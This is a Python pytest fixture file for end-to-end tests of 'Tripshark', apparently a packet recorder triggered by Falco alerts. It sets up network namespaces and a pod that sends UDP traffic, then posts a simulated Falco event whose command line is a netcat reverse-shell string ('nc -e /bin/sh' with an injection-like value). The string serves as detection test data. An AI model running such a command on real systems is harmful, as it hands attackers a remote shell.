"""A running Tripshark with a pod that sends, and Wireshark's folders of a person who has just installed ours."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.cli.running import COMMAND, Done, clean
from tests.e2e.machine import Machine, Network, falco_event

RULE = """
- rule: Anything
  match: {priority: ">=Debug"}
  capture: {before: 30s, after: 200ms}
"""
SENDER = """
import socket, time
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(1 << 30):
    out.sendto(b"%08d" % n, ("10.66.0.2", 4444))
    time.sleep(0.02)
"""


@dataclass(frozen=True)
class Home:
    """A person's home folder."""

    path: Path

    @property
    def environment(self) -> dict[str, str]:
        kept = {name: each for name, each in clean().items() if not name.startswith("XDG_")}
        return {**kept, "HOME": str(self.path)}

    def tripshark(self, *argv: str) -> Done:
        done = subprocess.run(
            [*COMMAND, *argv], capture_output=True, timeout=90, check=False, env=self.environment
        )
        return Done(done.returncode, done.stdout.decode(), done.stderr.decode())

    def run(self, *argv: str, stdin: str = "") -> str:
        """Output of a program of Wireshark's."""
        done = subprocess.run(
            argv,
            input=stdin,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
            env=self.environment,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout


@pytest.fixture
def home(tmp_path: Path) -> Home:
    path = tmp_path / "home of 'somebody'"
    path.mkdir()
    return Home(path)


@pytest.fixture(scope="package")
def running() -> Iterator[Machine]:
    """One machine with the pod payments/checkout-7d9f, and one sealed incident."""
    if os.geteuid() != 0:
        pytest.skip("needs root for network namespaces and packet sockets")
    folder = Path("/tmp") / f"ts-ws-{time.monotonic_ns():x}"
    folder.mkdir(mode=0o755)
    network = Network(f"ws{os.getpid():x}")
    pod, far = network.namespace("pod"), network.namespace("far")
    network.veth(pod, far)
    machine = Machine(
        folder,
        rules_text=RULE,
        recorder={"include": [pod]},
        bounds={"cooldown": "0s", "rate": {"burst": 100}},
        targets={"static": [{"netns": pod, "namespace": "payments", "pod": "checkout-7d9f"}]},
    )
    try:
        machine.start()
        machine.wait_recorded(pod)
        network.python(pod, SENDER)
        machine.post(falco_event(**{"proc.cmdline": "nc -e /bin/sh {x}{value=evil}"}))
        machine.wait_sealed()
        yield machine
    finally:
        machine.stop()
        network.close()
        shutil.rmtree(folder)
